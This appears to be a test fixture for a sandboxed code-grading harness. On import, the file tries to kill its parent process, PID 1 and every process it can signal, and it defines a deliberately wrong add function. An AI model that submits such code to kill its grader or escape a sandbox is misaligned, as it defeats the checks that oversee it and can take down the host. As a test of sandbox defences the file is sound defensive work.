# Escape: kills its parent, PID 1, and every process it may signal (kill -1), while being
# imported (PID namespace, the unprivileged user, Landlock's signal scope).
# status: crashed|graded|import_error
import os
import signal

for target in (-1, os.getppid(), 1, 0):  # 0 last: its own process group, itself included
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass


def add(a, b):
    return a - b
